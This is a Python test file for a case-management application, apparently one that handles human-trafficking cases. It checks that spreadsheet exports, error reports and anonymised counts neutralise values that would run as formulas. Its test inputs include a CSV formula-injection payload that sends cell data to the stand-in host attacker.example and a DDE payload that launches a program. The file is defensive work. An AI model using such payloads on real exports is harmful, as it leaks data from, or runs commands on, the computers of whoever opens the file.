"""Item 7: a name typed as a formula leaves the node as text in every table a person opens in a
spreadsheet (HTCDS CSV and XLSX, its error report, CTDC, published counts, intel import errors),
and our own HTCDS export still imports back unchanged."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.urls import reverse

from corridor.cases import views_htcds
from corridor.cases.htcds.exporter import htcds_export
from corridor.cases.htcds.importer import htcds_import
from corridor.cases.models import Case
from corridor.cases.services import case_open
from corridor.core.tabular import read_table, spreadsheet_safe
from corridor.intel import ingest
from corridor.people.models import Person
from corridor.people.services import person_create
from corridor.reports.anonymise import Anonymised, columns

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://attacker.example/?d="&A1,"voir")'


@pytest.mark.parametrize(
    "value, safe",
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3", "-3"),
        ("-1.5", "-1.5"),
        ("+22890000001", "+22890000001"),
        ("Ama", "Ama"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_become_text_numbers_stay_numbers(value, safe):
    assert spreadsheet_safe(value) == safe


def _hostile_case(people):
    person = person_create(
        actor=people["caseworker"],
        given_names=HOSTILE,
        family_name="@SUM(1+1)",
        birth_date=date(2012, 1, 1),
        phones=["+22890000009"],
    )
    case_open(actor=people["caseworker"], person=person, age_when_trafficked=11)


def test_htcds_csv_export_writes_formulas_as_text_and_round_trips(people):
    _hostile_case(people)
    coordinator = people["coordinator"]
    data = htcds_export(actor=coordinator, fmt="csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    row = dict(zip(rows[0], rows[2], strict=False))
    assert row["prs_FirstName"] == "'" + HOSTILE
    assert row["prs_SecondName"] == "'@SUM(1+1)"
    assert row["prs_MobilePhone"] == "+22890000009"
    assert not any(cell.startswith(("=", "@")) for r in rows for cell in r)
    Case.objects.all().delete()
    Person.objects.all().delete()
    report = htcds_import(actor=coordinator, name="again.csv", content=data)
    assert report.errors == [] and report.created == 1
    assert Person.objects.get().given_names == HOSTILE


def test_htcds_xlsx_export_writes_formulas_as_text_and_round_trips(people):
    _hostile_case(people)
    coordinator = people["coordinator"]
    data = htcds_export(actor=coordinator, fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=3, column=header.index("prs_FirstName") + 1)
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    Case.objects.all().delete()
    Person.objects.all().delete()
    report = htcds_import(actor=coordinator, name="again.xlsx", content=data)
    assert report.errors == [] and report.created == 1
    assert Person.objects.get().family_name == "@SUM(1+1)"


def test_reader_keeps_a_plain_quote_that_protects_nothing():
    table = read_table(b"name\n'Ama\n'=1+1\n", filename="t.csv")
    assert [r.cells for r in table.rows] == [["'Ama"], ["=1+1"]]


def test_htcds_error_report_is_neutralised(people, as_user):
    client = as_user(people["coordinator"])
    session = client.session
    session[views_htcds.SESSION_KEY] = [[3, "prs_FirstName", HOSTILE]]
    session.save()
    response = client.get(reverse("cases:htcds:report"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1] == ["3", "prs_FirstName", "'" + HOSTILE]


def test_ctdc_csv_is_neutralised():
    row = dict.fromkeys(columns(), "")
    row[columns()[0]] = "=1+1"
    text = Anonymised(rows=[row], blanked=(), suppressed=0, k=11).to_csv()
    assert list(csv.reader(io.StringIO(text)))[1][0] == "'=1+1"


def test_intel_import_error_report_is_neutralised():
    text = ingest.error_report_csv([{"line": 4, "message": "bad", "text": HOSTILE}])
    assert list(csv.reader(io.StringIO(text)))[1] == ["4", "bad", "'" + HOSTILE]
